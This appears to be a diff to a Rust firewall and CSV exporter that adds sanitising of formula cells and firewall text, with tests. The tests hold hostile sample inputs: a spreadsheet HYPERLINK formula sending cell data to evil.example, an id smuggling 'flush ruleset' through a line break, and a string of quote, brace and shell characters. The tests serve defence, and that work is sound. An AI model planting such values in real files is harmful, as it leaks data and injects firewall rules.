@@ -12,6 +12,11 @@
 //! written, a rule's ports and protocols as written. The firewall exports match protocols and
 //! destination ports only. Host names appear in their comments, never as addresses: a firewall
 //! resolves a name once, when the rules are loaded, and a service's addresses may change.
+//!
+//! Every text of the data that reaches a firewall file (the deployment in the header, chain
+//! names, rule comments) passes `firewall_text`. The data checks already keep ids and host
+//! names plain; the sanitiser makes the firewall files safe for any [`PortList`], however it was
+//! built, because a stray line in them is a rule the administrator did not ask for.
 
 use std::fmt;
 use std::str::FromStr;
@@ -354,7 +359,7 @@ const SCHEMA: &str = r##"{
     },
     "deployment": {
       "description": "The id of the deployment this export is restricted to (then `rules` holds only the rules used there, each with only that usage), or null for all deployments.",
-      "type": ["string", "null"]
+      "anyOf": [{ "$ref": "#/$defs/id" }, { "type": "null" }]
     },
     "deployments": {
       "description": "Ways the product is deployed, such as cloud or onsite.",
@@ -378,6 +383,11 @@ const SCHEMA: &str = r##"{
     }
   },
   "$defs": {
+    "id": {
+      "description": "An id of the port list: lowercase ASCII letters, digits and `-`, starting with a letter.",
+      "type": "string",
+      "pattern": "^[a-z][a-z0-9-]*$"
+    },
     "language": {
       "description": "A BCP 47 language code such as `de` or `pt-BR`.",
       "type": "string",
@@ -394,7 +404,7 @@ const SCHEMA: &str = r##"{
       "required": ["id", "label"],
       "additionalProperties": false,
       "properties": {
-        "id": { "description": "Unique among deployments.", "type": "string" },
+        "id": { "description": "Unique among deployments.", "$ref": "#/$defs/id" },
         "label": { "$ref": "#/$defs/text" }
       }
     },
@@ -403,7 +413,7 @@ const SCHEMA: &str = r##"{
       "required": ["id", "icon", "label"],
       "additionalProperties": false,
       "properties": {
-        "id": { "description": "Unique among devices.", "type": "string" },
+        "id": { "description": "Unique among devices.", "$ref": "#/$defs/id" },
         "icon": { "description": "Name of the icon in the documentation's theme.", "type": "string" },
         "label": { "$ref": "#/$defs/text" }
       }
@@ -413,7 +423,7 @@ const SCHEMA: &str = r##"{
       "required": ["id", "icon", "label", "hosts", "note"],
       "additionalProperties": false,
       "properties": {
-        "id": { "description": "Unique among endpoints.", "type": "string" },
+        "id": { "description": "Unique among endpoints.", "$ref": "#/$defs/id" },
         "icon": { "description": "Name of the icon in the documentation's theme.", "type": "string" },
         "label": { "$ref": "#/$defs/text" },
         "hosts": {
@@ -452,7 +462,7 @@ const SCHEMA: &str = r##"{
       "required": ["id", "ports", "protocols", "devices", "function", "deployments"],
       "additionalProperties": false,
       "properties": {
-        "id": { "description": "Unique among rules.", "type": "string" },
+        "id": { "description": "Unique among rules.", "$ref": "#/$defs/id" },
         "ports": {
           "description": "Destination ports; the rule applies to every port of every range on every protocol.",
           "type": "array",
@@ -470,7 +480,7 @@ const SCHEMA: &str = r##"{
           "type": "array",
           "minItems": 1,
           "uniqueItems": true,
-          "items": { "type": "string" }
+          "items": { "$ref": "#/$defs/id" }
         },
         "function": {
           "description": "What the connection is for: a stable id and its label.",
@@ -478,7 +488,7 @@ const SCHEMA: &str = r##"{
           "required": ["id", "label"],
           "additionalProperties": false,
           "properties": {
-            "id": { "type": "string" },
+            "id": { "description": "The label's message id.", "$ref": "#/$defs/id" },
             "label": { "$ref": "#/$defs/text" }
           }
         },
@@ -495,10 +505,10 @@ const SCHEMA: &str = r##"{
       "required": ["deployment", "direction", "source", "destination"],
       "additionalProperties": false,
       "properties": {
-        "deployment": { "description": "Id of a deployment.", "type": "string" },
+        "deployment": { "description": "Id of a deployment.", "$ref": "#/$defs/id" },
         "direction": { "$ref": "#/$defs/direction" },
-        "source": { "description": "Id of the endpoint that opens the connection.", "type": "string" },
-        "destination": { "description": "Id of the endpoint the connection goes to; the ports are its ports.", "type": "string" }
+        "source": { "description": "Id of the endpoint that opens the connection.", "$ref": "#/$defs/id" },
+        "destination": { "description": "Id of the endpoint the connection goes to; the ports are its ports.", "$ref": "#/$defs/id" }
       }
     }
   }
@@ -508,8 +518,13 @@ const SCHEMA: &str = r##"{
 // ---------------------------------------------------------------------------------------------
 // CSV
 
-/// The port list as CSV (RFC 4180: CRLF line ends, fields quoted only when they contain `,`,
-/// `"`, CR or LF, inner quotes doubled), with a header row.
+/// The port list as CSV (RFC 4180: CRLF line ends, inner quotes doubled), with a header row.
+/// A field is quoted when it contains `,`, `"`, CR or LF, and also `;` or a tab, which some
+/// spreadsheets take as the separator. A cell that a spreadsheet would evaluate as a formula
+/// (starting with `=`, `+`, `-`, `@`, a tab or CR, as OWASP's "CSV Injection" lists them) gets
+/// a leading `'` and quotes: labels are text from translators, and a label such as
+/// `=HYPERLINK(…)` must not run when someone opens the file. Ports never start with those
+/// characters, so they stay plain numbers.
 ///
 /// One row per rule, deployment usage, protocol and port range, in that nesting, so no cell
 /// needs splitting: columns `rule,deployment,direction,protocol,port_start,port_end,devices,
@@ -579,20 +594,33 @@ pub fn csv(
     out
 }
 
+/// What makes a spreadsheet read a cell as a formula when it starts the cell.
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
 fn csv_row(out: &mut String, fields: &[String]) {
     for (index, field) in fields.iter().enumerate() {
         if index > 0 {
             out.push(',');
         }
-        if field.contains([',', '"', '\r', '\n']) {
-            out.push('"');
-            out.push_str(&field.replace('"', "\"\""));
-            out.push('"');
-        } else {
-            out.push_str(field);
-        }
+        csv_field(out, field);
     }
     out.push_str("\r\n");
+}
+
+/// One field of [`csv`]: neutralised with a leading `'` if a spreadsheet would evaluate it, and
+/// quoted if it is neutralised or holds a separator, a quote or a line break.
+fn csv_field(out: &mut String, field: &str) {
+    let formula = field.starts_with(FORMULA_STARTS);
+    if formula || field.contains([',', ';', '\t', '"', '\r', '\n']) {
+        out.push('"');
+        if formula {
+            out.push('\'');
+        }
+        out.push_str(&field.replace('"', "\"\""));
+        out.push('"');
+    } else {
+        out.push_str(field);
+    }
 }
 
 // ---------------------------------------------------------------------------------------------
@@ -654,25 +682,38 @@ fn deployment_names(
 /// Longest rule comment: nft's limit (iptables allows 255).
 const COMMENT_MAX: usize = 128;
 
-/// `rule-id: destination hosts` (or the destination's id if it has none), as ASCII that needs
-/// no escaping in either firewall's quoted strings: other characters, quotes and backslashes
-/// included, become `_`.
+/// Punctuation that [`firewall_text`] keeps: it means nothing inside a quoted string or a
+/// comment of nft or iptables-restore.
+const FIREWALL_PUNCTUATION: &str = " .:,_-/+=@()";
+
+/// A text of the data as it may appear in a firewall file: ASCII letters, digits and
+/// [`FIREWALL_PUNCTUATION`] stay, every other character becomes `_`, one for one.
+///
+/// So no value can end a line (LF, CR, U+0085, U+2028 and every other break are replaced), end
+/// a quoted string or escape within one (`"`, `'`, `\`), start a comment (`#`), or end a
+/// statement or block (`;`, `{`, `}`). Chain names narrow the result further to what each tool
+/// accepts in a name.
+fn firewall_text(text: &str) -> String {
+    text.chars()
+        .map(|c| {
+            if c.is_ascii_alphanumeric() || FIREWALL_PUNCTUATION.contains(c) {
+                c
+            } else {
+                '_'
+            }
+        })
+        .collect()
+}
+
+/// `rule-id: destination hosts` (or the destination's id if it has none), through
+/// [`firewall_text`] and cut to [`COMMENT_MAX`] bytes.
 fn rule_comment(rule: &Rule, destination: &Endpoint) -> String {
     let target = if destination.hosts.is_empty() {
         destination.id.clone()
     } else {
         destination.hosts.join(" ")
     };
-    let mut comment: String = format!("{}: {target}", rule.id)
-        .chars()
-        .map(|c| {
-            if c.is_ascii_alphanumeric() || " .:,_-/+=@()".contains(c) {
-                c
-            } else {
-                '_'
-            }
-        })
-        .collect();
+    let mut comment = firewall_text(&format!("{}: {target}", rule.id));
     if comment.len() > COMMENT_MAX {
         comment.truncate(COMMENT_MAX - 3);
         comment.push_str("...");
@@ -690,7 +731,7 @@ fn firewall_header(out: &mut String, list: &PortList, deployment: Option<usize>)
         Some(index) => {
             out.push_str(&format!(
                 "# Deployment: {} only.\n",
-                list.deployments[index].id
+                firewall_text(&list.deployments[index].id)
             ));
         }
         None => out.push_str("# Deployments: all.\n"),
@@ -707,7 +748,7 @@ fn firewall_header(out: &mut String, list: &PortList, deployment: Option<usize>)
 /// with a letter or `_`, so an id starting with a digit gets a leading `_`.
 fn nft_chain_names(list: &PortList) -> Vec<String> {
     let clean = |id: &str| -> String {
-        let name: String = id
+        let name: String = firewall_text(id)
             .chars()
             .map(|c| if c.is_ascii_alphanumeric() { c } else { '_' })
             .collect();
@@ -830,7 +871,8 @@ const MULTIPORT_MAX: usize = 15;
 /// The iptables chain of each deployment and direction: `PORTS-CLOUD-OUT`, `PORTS-ONSITE-IN`.
 fn iptables_chain_names(list: &PortList) -> Vec<String> {
     let clean = |id: &str| -> String {
-        id.chars()
+        firewall_text(id)
+            .chars()
             .map(|c| {
                 if c.is_ascii_alphanumeric() {
                     c.to_ascii_uppercase()
@@ -1421,6 +1463,34 @@ COMMIT
     }
 
     #[test]
+    fn csv_neutralises_cells_a_spreadsheet_would_evaluate() {
+        let mut row = String::new();
+        let fields = [
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+            "+1",
+            "-2+3",
+            "@SUM(A1)",
+            "\tx",
+            "\rx",
+            "a;=1+1",
+            "a\t=1+1",
+            "5061",
+            "x=1",
+            "'quoted",
+        ]
+        .map(str::to_owned);
+        csv_row(&mut row, &fields);
+        assert_eq!(
+            row,
+            concat!(
+                "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",",
+                "\"'+1\",\"'-2+3\",\"'@SUM(A1)\",\"'\tx\",\"'\rx\",",
+                "\"a;=1+1\",\"a\t=1+1\",5061,x=1,'quoted\r\n"
+            )
+        );
+    }
+
+    #[test]
     fn one_deployment_keeps_only_its_rules_and_usages() {
         let list = parse_list(SMALL);
         let onsite = list.deployment("onsite");
@@ -1518,7 +1588,7 @@ COMMIT
         let valid: serde_json::Value =
             serde_json::from_str(&json(&list, &langs(), &real_catalog(), None)).unwrap();
         type Breakage = fn(&mut serde_json::Value);
-        let breakages: [(&str, Breakage); 10] = [
+        let breakages: [(&str, Breakage); 13] = [
             ("port 0", |v| v["rules"][0]["ports"][0]["start"] = 0.into()),
             ("port 65536", |v| {
                 v["rules"][0]["ports"][0]["end"] = 65536.into()
@@ -1542,6 +1612,15 @@ COMMIT
             }),
             ("host that is not a DNS name", |v| {
                 v["endpoints"][3]["hosts"][0] = "my pascom net".into();
+            }),
+            ("id with a line break", |v| {
+                v["deployments"][0]["id"] = "cloud\nflush ruleset".into();
+            }),
+            ("rule id starting with a digit", |v| {
+                v["rules"][0]["id"] = "2fa".into()
+            }),
+            ("reference in upper case", |v| {
+                v["rules"][0]["deployments"][0]["source"] = "Your-Network".into();
             }),
         ];
         for (what, breakage) in breakages {
@@ -1623,14 +1702,13 @@ COMMIT
     }
 
     // -----------------------------------------------------------------------------------------
-    // Awkward data: names to clean, long comments, many ports.
+    // Awkward data: names to shorten, long comments, many ports.
 
     const AWKWARD: &str = "\
 deployments:
   on-site: { label: a }
-  on_site: { label: b }
   a-very-long-deployment-name-indeed: { label: c }
-  '2024': { label: h }
+  a-very-long-deployment-name-too: { label: b }
 devices:
   pc: { icon: monitor, label: d }
 endpoints:
@@ -1641,38 +1719,48 @@ endpoints:
     hosts: [a1234567890.example.net, b1234567890.example.net, c1234567890.example.net,
             d1234567890.example.net, e1234567890.example.net]
 rules:
-  - id: 'say \"hi\" \\ grüß'
+  - id: say-hello-to-the-far-side
     ports: [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 100-200, 300-400]
     protocols: [udp, tcp]
     devices: [pc]
     function: g
     deployments:
       on-site: { direction: outbound, source: lan, destination: far }
-      on_site: { direction: inbound, source: far, destination: lan }
       a-very-long-deployment-name-indeed: { direction: outbound, source: lan, destination: lan }
-      '2024': { direction: inbound, source: far, destination: lan }
+      a-very-long-deployment-name-too: { direction: inbound, source: far, destination: lan }
 ";
 
     #[test]
     fn chain_names_are_clean_unique_and_short() {
-        let list = parse_list(AWKWARD);
+        let mut list = parse_list(AWKWARD);
         assert_eq!(
             nft_chain_names(&list),
             [
                 "on_site",
-                "on_site_2",
                 "a_very_long_deployment_name_indeed",
-                "_2024"
+                "a_very_long_deployment_name_too"
             ]
         );
         assert_eq!(
             iptables_chain_names(&list),
-            ["ON-SITE", "ON-SITE-2", "A-VERY-LONG-DEPLOY", "2024"]
+            ["ON-SITE", "A-VERY-LONG-DEPLOY", "A-VERY-LONG-DEPL-2"]
         );
-        assert!(nftables(&list, None).contains("\tchain _2024_inbound {\n"));
         let ipt = iptables(&list, None);
         assert!(ipt.contains(":PORTS-A-VERY-LONG-DEPLOY-OUT - [0:0]\n"));
+        assert!(ipt.contains(":PORTS-A-VERY-LONG-DEPL-2-IN - [0:0]\n"));
         assert_eq!("PORTS-A-VERY-LONG-DEPLOY-OUT".len(), IPTABLES_CHAIN_MAX);
+
+        // The data checks keep ids from starting with a digit; a list built without them still
+        // gets names nft accepts, and names that stay apart.
+        list.deployments[0].id = "2024".to_owned();
+        list.deployments[1].id = "on_site".to_owned();
+        list.deployments[2].id = "on-site".to_owned();
+        assert_eq!(nft_chain_names(&list), ["_2024", "on_site", "on_site_2"]);
+        assert_eq!(
+            iptables_chain_names(&list),
+            ["2024", "ON-SITE", "ON-SITE-2"]
+        );
+        assert!(nftables(&list, None).contains("\tchain _2024_outbound {\n"));
     }
 
     #[test]
@@ -1680,11 +1768,11 @@ rules:
         let list = parse_list(AWKWARD);
         let comment = rule_comment(&list.rules[0], &list.endpoints[1]);
         assert_eq!(comment.len(), COMMENT_MAX);
-        assert!(comment.starts_with("say _hi_ _ gr__: a1234567890.example.net "));
+        assert!(comment.starts_with("say-hello-to-the-far-side: a1234567890.example.net "));
         assert!(comment.ends_with("..."));
         assert_eq!(
             rule_comment(&list.rules[0], &list.endpoints[0]),
-            "say _hi_ _ gr__: lan"
+            "say-hello-to-the-far-side: lan"
         );
     }
 
@@ -1712,7 +1800,7 @@ rules:
         let list = parse_list(AWKWARD);
         let ipt = iptables(&list, Some(0));
         let lines: Vec<&str> = ipt.lines().filter(|line| line.starts_with("-A ")).collect();
-        let comment = "-m comment --comment \"say _hi_ _ gr__: a1234567890.example.net";
+        let comment = "-m comment --comment \"say-hello-to-the-far-side: a1234567890.example.net";
         assert_eq!(lines.len(), 4, "{ipt}");
         assert!(lines[0].starts_with(&format!(
             "-A PORTS-ON-SITE-OUT -p udp -m multiport --dports 1,2,3,4,5,6,7,8,9,10,11,12,13,14,15 {comment}"
@@ -1724,11 +1812,117 @@ rules:
     }
 
     // -----------------------------------------------------------------------------------------
-    // The real tools. Each check is skipped, saying so, where the tool is missing; CI installs
-    // them. Checking needs root (CAP_NET_ADMIN): nft asks the kernel, iptables-restore --test
-    // builds the rules through netlink too.
+    // Hostile text: whatever a list holds, it adds no line to a firewall file.
+
+    /// What ends a line, a comment, a quoted string, a statement or a block in nft or
+    /// iptables-restore, or hides text from a reader: line breaks of every kind, quotes,
+    /// backslashes, `;`, braces, `#`, NUL, a tab, shell characters and a bidirectional override.
+    const HOSTILE: &str =
+        "\nflush ruleset\r\n\"; } { # \\ ' \u{85}\u{2028}\u{2029}\0\t`$\u{202e}drop";
+
+    /// [`HOSTILE`] as a firewall file may show it: letters, digits and spaces kept, every other
+    /// character one `_`.
+    const HOSTILE_CLEANED: &str = "_flush ruleset____ _ _ _ _ _ ________drop";
+
+    /// [`SMALL`] with `suffix` appended to every text of the list (ids, host names, icons and
+    /// label ids), built without the data checks, which would reject it.
+    fn small_with(suffix: &str) -> PortList {
+        let mut list = parse_list(SMALL);
+        let hostile = |text: &mut String| text.push_str(suffix);
+        for deployment in &mut list.deployments {
+            hostile(&mut deployment.id);
+            hostile(&mut deployment.label.id);
+        }
+        for device in &mut list.devices {
+            hostile(&mut device.id);
+            hostile(&mut device.icon);
+            hostile(&mut device.label.id);
+        }
+        for endpoint in &mut list.endpoints {
+            hostile(&mut endpoint.id);
+            hostile(&mut endpoint.icon);
+            hostile(&mut endpoint.label.id);
+            endpoint.hosts.iter_mut().for_each(hostile);
+            if let Some(note) = &mut endpoint.note {
+                hostile(&mut note.id);
+            }
+        }
+        for rule in &mut list.rules {
+            hostile(&mut rule.id);
+            hostile(&mut rule.function.id);
+        }
+        list
+    }
+
+    /// The lines a firewall tool acts on: neither comments nor blank.
+    fn rule_lines(export: &str) -> Vec<&str> {
+        export
+            .lines()
+            .filter(|line| !line.trim().is_empty() && !line.starts_with('#'))
+            .collect()
+    }
+
+    #[test]
+    fn firewall_text_keeps_only_plain_ascii() {
+        for c in (0..=0x10ffff).filter_map(char::from_u32) {
+            let text = firewall_text(&c.to_string());
+            let kept = c.is_ascii_alphanumeric() || " .:,_-/+=@()".contains(c);
+            assert_eq!(text, if kept { c.to_string() } else { "_".to_owned() });
+        }
+        assert_eq!(firewall_text(HOSTILE), HOSTILE_CLEANED);
+    }
+
+    #[test]
+    fn hostile_text_adds_no_line_to_a_firewall_file() {
+        let hostile = small_with(HOSTILE);
+        let clean = small_with(HOSTILE_CLEANED);
+        type Render = fn(&PortList, Option<usize>) -> String;
+        let formats: [(&str, Render); 2] = [("nftables", nftables), ("iptables", iptables)];
+        for (format, render) in formats {
+            for deployment in [None, Some(0), Some(1)] {
+                let export = render(&hostile, deployment);
+                let expected = render(&clean, deployment);
+                let what = format!("{format}, {deployment:?}");
+                assert!(
+                    export
+                        .chars()
+                        .all(|c| c == '\n' || c == '\t' || (' '..='~').contains(&c)),
+                    "{what}: {export:?}"
+                );
+                assert_eq!(export.lines().count(), expected.lines().count(), "{what}");
+                let rules = rule_lines(&expected);
+                assert!(!rules.is_empty());
+                for line in export.lines() {
+                    assert!(
+                        line.is_empty() || line.starts_with('#') || rules.contains(&line),
+                        "{what}: {line:?} is neither a comment nor a rule of the clean list"
+                    );
+                }
+                assert_eq!(rule_lines(&export), rules, "{what}");
+            }
+        }
+        assert!(
+            nftables(&hostile, Some(0))
+                .contains("\n# Deployment: cloud_flush ruleset____ _ _ _ _ _ ________drop only.\n")
+        );
+    }
+
+    // -----------------------------------------------------------------------------------------
+    // The real tools. Each check is skipped, saying so, where the tool is missing, except under
+    // CI (`CI=true`): `.ci/run` installs the tools, so a missing one there is a broken setup
+    // that must not pass as green. Checking needs root (CAP_NET_ADMIN): nft asks the kernel,
+    // iptables-restore --test builds the rules through netlink too.
+
+    /// Whether a missing tool fails the test instead of skipping it.
+    fn tools_required() -> bool {
+        std::env::var("CI").is_ok_and(|value| value == "true")
+    }
 
     /// The path of a system tool, or `None` after saying it is not installed.
+    ///
+    /// # Panics
+    ///
+    /// If the tool is missing under CI.
     fn tool(name: &str) -> Option<PathBuf> {
         let path = std::env::var_os("PATH").unwrap_or_default();
         let found = std::env::split_paths(&path)
@@ -1736,9 +1930,23 @@ rules:
             .map(|dir| dir.join(name))
             .find(|candidate| candidate.is_file());
         if found.is_none() {
+            assert!(
+                !tools_required(),
+                "{name} is not installed, and CI=true needs it"
+            );
             eprintln!("skipping: {name} not installed");
         }
         found
+    }
+
+    #[test]
+    fn a_missing_tool_skips_except_under_ci() {
+        let outcome = std::panic::catch_unwind(|| tool("tafel-no-such-firewall-tool"));
+        if tools_required() {
+            assert!(outcome.is_err(), "CI=true, yet a missing tool was skipped");
+        } else {
+            assert_eq!(outcome.ok(), Some(None));
+        }
     }
 
     /// Runs `program` with `input` on stdin; `None` after saying so if it lacks the privileges.
@@ -1761,6 +1969,11 @@ rules:
         if !output.status.success()
             && (stderr.contains("Operation not permitted") || stderr.contains("must be root"))
         {
+            assert!(
+                !tools_required(),
+                "{} needs root (CAP_NET_ADMIN), and CI=true needs the check: {stderr}",
+                program.display()
+            );
             eprintln!(
                 "skipping: {} needs root (CAP_NET_ADMIN) to check rules: {stderr}",
                 program.display()
@@ -1779,15 +1992,20 @@ rules:
         );
     }
 
-    /// Every list the firewall tests feed the tools: the real one, whole and per deployment, and
-    /// the small and awkward ones.
+    /// Every list the firewall tests feed the tools: the real one, whole and per deployment, the
+    /// small and awkward ones, and the small one with hostile text in every value.
     fn firewall_cases() -> Vec<(String, PortList, Option<usize>)> {
         let mut cases = Vec::new();
-        for (name, text) in [("real", REAL), ("small", SMALL), ("awkward", AWKWARD)] {
-            let list = parse_list(text);
+        let lists = [
+            ("real", parse_list(REAL)),
+            ("small", parse_list(SMALL)),
+            ("awkward", parse_list(AWKWARD)),
+            ("hostile", small_with(HOSTILE)),
+        ];
+        for (name, list) in lists {
             cases.push((format!("{name}, all deployments"), list.clone(), None));
             for index in 0..list.deployments.len() {
-                let label = format!("{name}, {}", list.deployments[index].id);
+                let label = format!("{name}, deployment {index}");
                 cases.push((label, list.clone(), Some(index)));
             }
         }
